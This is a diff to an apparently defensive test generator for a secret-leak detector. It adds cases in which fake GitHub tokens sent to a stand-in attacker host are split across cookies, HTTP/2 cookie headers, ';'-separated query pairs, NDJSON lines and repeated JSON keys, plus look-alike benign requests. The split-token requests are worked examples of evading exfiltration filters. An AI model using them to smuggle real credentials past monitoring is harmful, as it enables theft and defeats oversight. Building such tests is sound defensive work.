@@ -720,6 +720,21 @@ def attacks(rng: random.Random) -> list[Case]:
         method="POST", url=f"{evil}/j", headers=(JSON,), body=_json({"note": f"xy{cased.aws_id()}q"}))
     add("headers", "GitHub token upper-cased", ("github-token",), url=f"{evil}/",
         headers=_h(X_Note=cased.github().upper()))
+
+    # -- a token format cut over pieces a server reads as neighbours -----------------------------
+    cut = _Fakes(random.Random(1513))  # its own generator: the cases before stay as they were
+    one, two, three, four = cut.github(), cut.github(), cut.github(), cut.github()
+    add("split", "unknown GitHub token cut over two cookies", ("github-token",), url=f"{evil}/",
+        headers=(("Cookie", f"a={one[:17]}; b={one[17:]}"),))
+    add("split", "unknown GitHub token cut over HTTP/2 cookie headers", ("github-token",), url=f"{evil}/",
+        headers=(("cookie", f"a={two[:9]}"), ("cookie", f"b={two[9:]}")))
+    add("split", "unknown GitHub token in a query with ';' between pairs", ("github-token",),
+        url=f"{evil}/?a={three[:20]};b={three[20:]}")
+    add("split", "unknown GitHub token over two NDJSON lines", ("github-token",), method="POST", url=f"{evil}/",
+        headers=(("Content-Type", "application/x-ndjson"),),
+        body=_json({"a": four[:12]}) + b"\n" + _json({"b": four[12:]}) + b"\n")
+    add("split", "unknown GitHub token in a repeated JSON key", ("github-token",), method="POST", url=f"{evil}/",
+        headers=(JSON,), body=f'{{"a": "{one[:25]}", "a": "{one[25:]}"}}'.encode())
     return out
 
 
@@ -1213,6 +1228,21 @@ def benign(rng: random.Random) -> list[Case]:
             f"totp {base64.b32encode(upper.randbytes(20)).decode()}MAKIA{_rand(upper, 16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}",
             f"hash x{'ACCA'}{_rand(upper, 16, HEX).upper()}9", "mACCAUNTINGREPORTSFORTHEYEAR2026",
         ))}))
+    # Neighbouring pieces read one by one: cookies (one header, and one header per cookie as
+    # HTTP/2 sends them), ';' between pairs, NDJSON lines, repeated JSON keys.
+    near = random.Random(1513)
+    crumbs = (f"_ga=GA1.2.{near.randint(10**8, 10**9)}.{near.randint(10**9, 2 * 10**9)}",
+              f"csrftoken={_rand(near, 32)}", f"sessionid={_rand(near, 32, HEX)}", f"__cf_bm={_rand(near, 43)}")
+    add("api-json", "cookies as HTTP/2 sends them, a header each", url="https://app.example.com/dashboard",
+        headers=(ua, *(("cookie", crumb) for crumb in crumbs)))
+    add("api-json", "map query with ';' between pairs",
+        url=f"https://maps.example/q?ll={_rand(near, 20)};z=12;t={_rand(near, 20)}")
+    add("api-json", "NDJSON log of hashes", method="POST", url="https://logs.example.com/ingest",
+        headers=(("Content-Type", "application/x-ndjson"),),
+        body=b"".join(_json({"sha256": _rand(near, 64, HEX), "id": _rand(near, 20)}) + b"\n" for _ in range(20)))
+    add("api-json", "JSON with a repeated key", method="POST", url="https://api.example.com/v1/items",
+        headers=(JSON,),
+        body=f'{{"id": "{_rand(near, 20)}", "id": "{_rand(near, 20)}", "tag": "a", "tag": "b"}}'.encode())
     return out
 
 
